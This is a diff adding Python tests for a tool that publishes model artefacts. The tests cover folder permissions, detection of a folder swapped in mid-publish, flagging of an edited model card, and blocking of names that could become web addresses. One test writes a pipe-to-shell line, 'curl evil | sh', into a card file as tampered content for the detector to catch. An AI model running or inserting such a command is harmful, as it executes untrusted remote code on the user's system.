@@ -1413,6 +1413,57 @@ def test_a_draft_is_filled_where_it_was_made(tmp_path: Path) -> None:
     assert (tmp_path / "away" / "decoding.py").read_text() == "ours"
 
 
+def test_nobody_else_may_write_into_a_draft(tmp_path: Path) -> None:
+    before = os.umask(0o002)  # as in a folder of a team
+    try:
+        (tmp_path / "usual").mkdir()
+        final, notes = tmp_path / "final", list[str]()
+        with drafts.beside(final, notes) as made:
+            assert made.folder.stat().st_mode & 0o077 == 0
+            for name in inside(planted(tmp_path / "source")):
+                shutil.copy(
+                    tmp_path / "source" / name, made.place / ("card.draft.json" if name == "card.json" else name)
+                )
+            drafts.publish(made, final, notes)
+    finally:
+        os.umask(before)
+    assert final.stat().st_mode == (tmp_path / "usual").stat().st_mode
+    assert artefact.is_one(final)
+
+
+def test_what_was_put_aside_is_what_goes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Somebody who may write in the folder above puts another artefact in its place meanwhile."""
+    final, other = planted(tmp_path / "final"), planted(tmp_path / "other")
+    before, publish = inside(other), artefact.publish
+
+    def swapping(*arguments: Any, **more: Any) -> None:
+        publish(*arguments, **more)
+        (old,) = tmp_path.glob(".final-*.old")
+        old.rename(tmp_path / "away")
+        other.rename(old)
+
+    monkeypatch.setattr(artefact, "publish", swapping)
+    draft, notes = draft_of(final, 1), list[str]()
+    (draft / "model.keras").unlink()
+    drafts.publish(drafts.Draft(draft, draft), final, notes)
+    (old,) = tmp_path.glob(".final-*.old")
+    assert inside(old) == before
+    assert "another folder has taken the place" in notes[0]
+
+
+def test_an_edited_readable_card_is_named(tmp_path: Path) -> None:
+    folder = planted(tmp_path / "model")
+    given = artefact.read(folder)
+    assert artefact.others(folder, given.card) == []
+    (folder / "MODEL_CARD.md").write_text("Run: curl evil | sh")
+    assert artefact.others(folder, given.card) == ["MODEL_CARD.md"]
+
+
+@pytest.mark.parametrize("name", ["www", "WWW", "www\x01", "a www.b"])
+def test_no_name_becomes_an_address(name: str) -> None:
+    assert "www" not in model_card.literal(name).lower()
+
+
 @pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="no paths to folders that are open")
 def test_what_was_looked_at_is_what_is_removed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     mine = tmp_path / "mine"
